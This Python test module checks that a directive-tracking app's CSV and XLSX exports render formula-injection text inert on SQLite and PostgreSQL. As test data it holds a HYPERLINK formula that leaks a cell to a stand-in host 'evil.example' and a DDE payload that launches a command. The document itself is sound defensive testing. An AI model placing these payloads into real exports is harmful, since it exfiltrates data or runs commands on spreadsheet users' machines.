"""Formula injection: no text an official or a link can put in an export becomes a live formula.

A spreadsheet reads a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or
a line feed as a formula (OWASP, CSV Injection). Each test reads the files back, with ``csv`` and
``openpyxl``, and checks that no cell is a formula, that the text is all there and that numbers are
still numbers, through the pages on SQLite and PostgreSQL and, for any text, on the exporters.
"""

from __future__ import annotations

import base64
import csv
import dataclasses
import io
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlencode
from uuid import uuid4

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from api.web.export import Report, UnitFigures, to_csv, to_xlsx
from domain.shared.actors import Role
from readmodels.index import UnitScore
from readmodels.model import Awaiting, AwaitingItem, Figures, LateItem
from tests.api.conftest import Api, api_on
from tests.api.test_pages import visitor
from tests.hypothesis_profiles import examples

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture(params=["sqlite", "postgres"])
def api(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Api]:
    """The API and pages on a fresh SQLite database, then on a fresh PostgreSQL schema."""
    yield from api_on(request.param, tmp_path)


def csv_rows(content: bytes) -> list[list[Any]]:
    """The CSV read back as a spreadsheet types it: quoted fields are text, the rest numbers."""
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), quoting=csv.QUOTE_NONNUMERIC))


def csv_shown(text: str) -> str:
    """What a text is written as in a CSV cell: as it is, or after an apostrophe."""
    return "'" + text if text.startswith(TRIGGERS) else text


def xlsx_cells(content: bytes) -> list[tuple[str, Any, str, bool]]:
    """Every cell of every sheet: its sheet, value, type and whether it is marked as text."""
    book = load_workbook(io.BytesIO(content))
    return [
        (sheet.title, cell.value, cell.data_type, bool(cell.quotePrefix))
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_no_formula(cells: list[tuple[str, Any, str, bool]]) -> None:
    formulas = [(sheet, value) for sheet, value, kind, _ in cells if kind == "f"]
    assert formulas == []
    for _, value, kind, marked in cells:
        if isinstance(value, str) and value.startswith(TRIGGERS):
            assert (kind, marked) == ("s", True), value


def test_an_overdue_directive_titled_as_a_formula_is_text_in_both_exports(api: Api) -> None:
    """The late list of both files carries the title as text, never as a formula."""
    issued = api.post(
        "/api/directives",
        Role.LEADER,
        {
            "reference": "7/UBND-VX",
            "title": HYPERLINK,
            "lead_unit": "SO-CT",
            "deadline": "2024-03-05",
            "issuer": "@SUM(1+1)*cmd|' /C calc'!A0",
        },
    )
    assert issued.status_code == 201, issued.text
    api.clock.advance(timedelta(days=10))
    leader = visitor(api, "leader.chutich")

    cells = xlsx_cells(leader.get("/dashboard/export.xlsx").content)
    assert_no_formula(cells)
    assert HYPERLINK in [value for _, value, _, _ in cells]

    rows = csv_rows(leader.get("/dashboard/export.csv").content)
    texts = [field for row in rows for field in row if isinstance(field, str)]
    assert not [t for t in texts if t.startswith(TRIGGERS)]
    assert csv_shown(HYPERLINK) in texts


def test_a_filter_in_a_crafted_link_is_text_in_the_source_sheet(api: Api) -> None:
    """``?issuer==HYPERLINK(...)`` is reflected into the source sheet as text, not a formula."""
    leader = visitor(api, "leader.chutich")
    query = urlencode({"issuer": HYPERLINK, "unit": "+SO-CT"})
    cells = xlsx_cells(leader.get(f"/dashboard/export.xlsx?{query}").content)
    assert_no_formula(cells)
    source = {value for sheet, value, _, _ in cells if sheet == "Nguồn số liệu"}
    assert {HYPERLINK, "+SO-CT"} <= source
    assert leader.get("/dashboard/export.xlsx?urgency=-1%2B2").status_code == 422  # a choice

    rows = csv_rows(leader.get(f"/dashboard/export.csv?{query}").content)
    provenance = {row[0]: row[1] for row in rows if len(row) == 2}
    assert provenance["Lọc theo người ký"] == "'" + HYPERLINK
    assert provenance["Lọc theo đơn vị"] == "'+SO-CT"


# --- the exporters, for any text ----------------------------------------------------------------


def report_with(text: str, days: int = 3) -> Report:
    """A report whose every text slot holds ``text``, with a negative number among its figures."""
    figures = Figures(completed_on_time=2, overdue=1, days_overdue_total=days)
    score = UnitScore(text, -1.5, 1, text, text, 0.5, -0.25, 1.0, 0.0, 0.5, 3)
    waiting = Awaiting(reported_on=date(2024, 3, 4), days=10, held_by=text)
    late = LateItem(uuid4(), text, text, text, text, date(2024, 3, 5), -days, 40, waiting)
    awaiting = AwaitingItem(uuid4(), text, text, text, text, date(2024, 3, 5), waiting, True, 0)
    return Report(
        as_of=date(2024, 3, 14),
        basis="in_force",
        filters={"issuer": text, "unit": text},
        position=12,
        checkpoint={"tree_size": 12, "root": ROOT, "signed_at": text},
        city=figures,
        units=(UnitFigures(text, text, figures, score),),
        late=(late,),
        awaiting=(awaiting,),
    )


# A root hash as the API gives it (base64); one that begins with "+" (a byte from 0xF8 to 0xFB
# first) is what a spreadsheet reads as a formula.
ROOT = base64.b64encode(bytes(32)).decode()
PLUS_ROOT = bytes([0xF8]) + bytes(range(1, 32))


def test_a_root_hash_beginning_with_a_plus_is_exported_whole() -> None:
    """The CSV wrote a base64 root beginning with "+" behind the formula guard's apostrophe
    ("'+…"), so the hash read back was not the log's. Both files give the root as every page and
    the command line show it, in hex, which never begins like a formula: exactly the bytes."""
    root = base64.b64encode(PLUS_ROOT).decode()
    assert root.startswith("+")
    report = dataclasses.replace(
        report_with("x"), checkpoint={"tree_size": 12, "root": root, "signed_at": "x"}
    )
    rows = csv.reader(io.StringIO(to_csv(report, "vi").decode("utf-8-sig")))
    assert {row[0]: row[1] for row in rows if len(row) == 2}[
        "Gốc cây Merkle của điểm kiểm tra (SHA-256, hex)"
    ] == (PLUS_ROOT.hex())
    source = load_workbook(io.BytesIO(to_xlsx(report, "en")))["Source"]
    assert {r[0]: r[1] for r in source.iter_rows(values_only=True)}[
        "Checkpoint's Merkle root (SHA-256, hex)"
    ] == (PLUS_ROOT.hex())


def xlsx_text(text: str) -> str:
    """A text as a spreadsheet cell holds it: one kind of line break, control characters shown."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    return "".join(chr(0x2400 + ord(c)) if ord(c) < 32 and c not in "\t\n" else c for c in text)


@settings(
    max_examples=examples(50, thorough=500),
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(
    text=st.one_of(
        st.text(min_size=1),
        st.builds(lambda t, rest: t + rest, st.sampled_from(TRIGGERS), st.text()),
    ),
    lang=st.sampled_from(["vi", "en"]),
)
def test_no_exported_cell_is_a_formula_whatever_its_text(text: str, lang: Any) -> None:
    """Any text in any slot of the report comes back whole and inert from both files."""
    report = report_with(text)

    cells = xlsx_cells(to_xlsx(report, lang))
    assert_no_formula(cells)
    values = [value for _, value, _, _ in cells]
    assert values.count(xlsx_text(text)) >= 13  # every slot the text was put in

    rows = csv_rows(to_csv(report, lang))
    fields = [field for row in rows for field in row]
    assert not [f for f in fields if isinstance(f, str) and f.startswith(TRIGGERS)]
    assert fields.count(csv_shown(text)) >= 13


def test_numbers_stay_numbers_negative_ones_too() -> None:
    """Figures, days and scores are numbers in both files, a negative one as much as any other."""
    report = report_with("-", days=4)
    cells = xlsx_cells(to_xlsx(report, "en"))
    numbers = {value for _, value, kind, _ in cells if kind == "n"}
    assert {-4, -1.5, 40, 2} <= numbers
    texts = {value for _, value, kind, _ in cells if kind == "s"}
    assert "-" in texts

    fields = [field for row in csv_rows(to_csv(report, "en")) for field in row]
    assert {-4.0, -1.5, 40.0, 2.0} <= {f for f in fields if isinstance(f, float)}
    assert "'-" in fields
